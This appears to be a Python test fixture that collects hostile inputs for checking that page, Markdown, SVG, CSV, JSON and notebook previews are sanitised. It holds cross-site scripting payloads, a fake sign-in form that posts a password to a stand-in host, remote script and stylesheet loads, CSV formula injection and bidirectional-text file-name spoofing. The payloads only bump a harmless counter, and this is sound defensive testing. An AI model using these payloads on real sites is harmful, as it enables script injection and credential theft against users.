"""Texts by which a hostile user would run script in another one's page, load something, or mislead the eye."""
# ruff: noqa: E501 - written as an attacker writes them

from __future__ import annotations

ELSEWHERE = "https://elsewhere.example"
RAN = "globalThis.__ran = (globalThis.__ran ?? 0) + 1"
"""What each of them tries to run; a page in which it ran knows the variable."""
NAMES = (
    f"<img src=x onerror='{RAN}'>",
    f"\"><svg onload='{RAN}'>",
    f"javascript;{RAN}",
    "{{constructor.constructor('__ran=1')()}} ${__ran=1} <%= __ran %>",
    '=HYPERLINK("elsewhere.example")',
    "a" * 200,
    "שלום-مرحبا-mixed",
    "%2e%2e%2f%3Cscript%3E",
)
"""Model names: colons are refused in them, and so are empty segments between slashes."""
MARKDOWN = f"""# Hostile

<script>{RAN}</script>
<script src="{ELSEWHERE}/x.js"></script>
<img src="{ELSEWHERE}/pixel.png" onerror="{RAN}">
<img src=x onerror="{RAN}">
<svg onload="{RAN}"><script>{RAN}</script></svg>
<iframe src="javascript:{RAN}"></iframe>
<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>
<object data="javascript:{RAN}"></object>
<form action="{ELSEWHERE}/steal"><input name="password"><button formaction="javascript:{RAN}">Sign in again</button></form>
<a href="javascript:{RAN}">a link</a>
<style>@import url("{ELSEWHERE}/x.css"); body {{ display: none }}</style>
<link rel="stylesheet" href="{ELSEWHERE}/x.css">
<base href="{ELSEWHERE}/">
<meta http-equiv="refresh" content="0; url={ELSEWHERE}/">
<div style="position: fixed; inset: 0; background: url({ELSEWHERE}/x.png)" onclick="{RAN}">over everything</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RAN}&gt;"></table></mtext></math>

[one](javascript:{RAN}) [two](data:text/html,<script>{RAN}</script>) [three](vbscript:x) ![picture]({ELSEWHERE}/pixel.png)

```html
<script>{RAN}</script>
```
\u202egnp.exe\u202c and \u2066hidden\u2069
"""
PAGE = f'<!doctype html><title>x</title><body onload="{RAN}"><script>{RAN}; try {{ parent.{RAN} }} catch {{}}</script>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"><script>{RAN}</script><image href="{ELSEWHERE}/x.png"/></svg>'
FILES = {
    "page.html": PAGE.encode(),
    "picture.svg": SVG.encode(),
    "README.md": MARKDOWN.encode(),
    "table.csv": f'a,b\n"<img src=x onerror={RAN}>","=cmd|x"\n'.encode(),
    "notes.json": f'{{"<script>{RAN}</script>": "</script><script>{RAN}</script>"}}'.encode(),
    "book.ipynb": (
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": [], '
        '"execution_count": 1, "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": '
        f'["<img src=x onerror=\\"{RAN}\\"><script>{RAN}</script>"]}}}}]}}, '
        f'{{"cell_type": "markdown", "metadata": {{}}, "source": ["<img src=x onerror=\\"{RAN}\\">"]}}]}}'
    ).encode(),
}
"""Files whose previews would run something, by path."""
